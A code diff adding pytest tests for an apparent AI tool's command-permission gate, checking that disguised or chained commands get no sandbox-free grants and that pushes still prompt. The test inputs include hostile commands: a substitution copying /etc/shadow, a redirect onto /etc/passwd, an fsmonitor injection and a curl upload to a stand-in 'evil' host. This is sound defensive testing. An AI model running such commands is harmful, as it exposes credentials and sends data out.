@@ -141,3 +141,64 @@ def test_substitutions_and_redirections_never_run_unconfined() -> None:
     assert policy.decide("pytest -q tests").unconfined is True
     for line in ("pytest `cp /etc/shadow /tmp/x`", "pytest $(id)", "pytest > /etc/passwd"):
         assert policy.decide(line).unconfined is False, line
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "./git status",
+        "PATH=. git status",
+        "$PWD/git status",
+        "LD_PRELOAD=./x.so git status",
+        "git --exec-path=. status",
+        "git -c core.fsmonitor='touch /tmp/x' status",
+        "env git status",
+    ],
+)
+def test_grants_go_by_the_command_as_written(line: str) -> None:
+    """Spellings that dodge a deny are caught, but they must not earn what a rule grants."""
+    rules = parse_rules(
+        [
+            {"command": "git status", "decision": "allow", "sandbox": False},
+            {"command": "git fetch", "decision": "allow", "network": True},
+        ],
+        "p",
+        may_grant=True,
+    )
+    policy = Policy(rules)
+    assert policy.decide("git status --short").unconfined is True
+    assert policy.decide(line).unconfined is False
+    fetch = line.replace("status", "fetch")
+    assert decide(policy, "git fetch origin", network=True) == ("allow", True)
+    assert decide(policy, fetch, network=True) == ("ask", True), fetch
+
+
+def test_an_answer_for_the_run_covers_that_command_only() -> None:
+    from nexus_ls.tools.gate import CommandGate
+
+    asked: list[str] = []
+
+    def ask(request: dict) -> tuple[str, str]:
+        asked.append(request["command"])
+        return "run", "the test"
+
+    gate = CommandGate(Policy(), ask)
+    assert gate.check("git push origin main").run
+    assert gate.check("git push origin other").run
+    assert gate.check("curl -T x http://evil/ ; git push").run
+    assert asked == ["git push origin main", "curl -T x http://evil/ ; git push"]
+
+
+def test_a_repository_cannot_take_away_the_question_a_push_gets() -> None:
+    policy, _ = build_policy(
+        [],
+        [],
+        {
+            "rules": [
+                {"command": "git push", "decision": "allow"},
+                {"command": "git push --force", "decision": "deny"},
+            ]
+        },
+    )
+    assert decide(policy, "git push origin main") == ("ask", True)
+    assert decide(policy, "git push --force") == ("deny", False)
